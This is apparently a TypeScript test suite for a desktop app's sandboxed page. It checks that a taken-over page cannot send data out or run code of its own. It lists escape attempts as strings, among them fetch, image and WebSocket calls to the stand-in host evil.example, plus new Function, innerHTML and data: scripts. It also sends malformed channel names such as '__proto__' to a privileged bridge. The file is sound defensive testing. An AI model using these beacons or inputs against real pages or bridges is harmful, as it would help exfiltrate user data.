import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { launch, missing } from './launch.ts';

/** Ways out of a page, each as the page would try it; what it answers says whether anything went out. */
const waysOut: Readonly<Record<string, string>> = {
  fetch: "fetch('https://evil.example/?q=1').then(() => 'sent', () => 'refused')",
  'fetch of our own': "fetch('./index.html').then(() => 'sent', () => 'refused')",
  image:
    "new Promise((done) => { const image = new Image(); image.onload = () => done('sent'); image.onerror = () => done('refused'); image.src = 'https://evil.example/x.png'; })",
  socket:
    "new Promise((done) => { try { const socket = new WebSocket('wss://evil.example'); socket.onopen = () => done('sent'); socket.onerror = () => done('refused'); } catch { done('refused'); } })",
  evaluation: "new Promise((done) => setTimeout(() => { try { done(new Function('return \"sent\"')()); } catch { done('refused'); } }))",
  'a policy of its own':
    "(() => { try { trustedTypes.createPolicy('evil', { createScript: (text) => text, createHTML: (text) => text }); return 'made'; } catch { return 'refused'; } })()",
  markup: "(() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return 'made'; } catch { return 'refused'; } })()",
  'a script of data':
    "new Promise((done) => { const script = document.createElement('script'); script.onload = () => done('run'); script.onerror = () => done('refused'); try { script.src = 'data:text/javascript,1'; document.head.append(script); } catch { done('refused'); } })",
};

describe.skipIf(missing !== null)('a page that was taken over', () => {
  it('sends nothing out, runs nothing of its own, and reaches nothing through frames', async () => {
    const application = await launch();
    const { page, directory } = application;
    for (const [way, script] of Object.entries(waysOut)) expect(await page.evaluate(script), way).toBe('refused');
    expect(
      await page.evaluate(
        "(() => { const frame = document.createElement('iframe'); document.body.append(frame); return [typeof frame.contentWindow.keyring, typeof frame.contentWindow.__host]; })()",
      ),
    ).toEqual(['undefined', 'undefined']);
    const states =
      "Promise.all(['geolocation', 'notifications', 'camera', 'microphone'].map((name) => navigator.permissions.query({ name }).then(({ state }) => state, () => 'unknown')))";
    expect(await page.evaluate(states)).not.toContain('granted');
    const [policy] = await Promise.all([
      page.waitForResponse((response) => response.url().endsWith('/index.html')).then((response) => response.allHeaders()),
      page.reload(),
    ]);
    expect(policy['x-dns-prefetch-control']).toBe('off');
    expect(policy['content-security-policy']).toContain("trusted-types 'none'");
    expect((await application.recorded()).opened).toEqual([]);
    expect(readFileSync(join(directory, 'practice/logs/window.log'), 'utf8')).not.toContain('"event":"crash"');
  });

  it('asks for channels that are none, and is answered', async () => {
    const { page } = await launch();
    for (const channel of ["'__proto__'", "'constructor'", '42', 'null', '{ toString: 1 }', "['app:read']", "'x'.repeat(100000)"])
      expect(await page.evaluate(`window.keyring.request(${channel}, null)`), channel).toMatchObject({
        ok: false,
        fault: { code: 'window.request-malformed' },
      });
  });
});
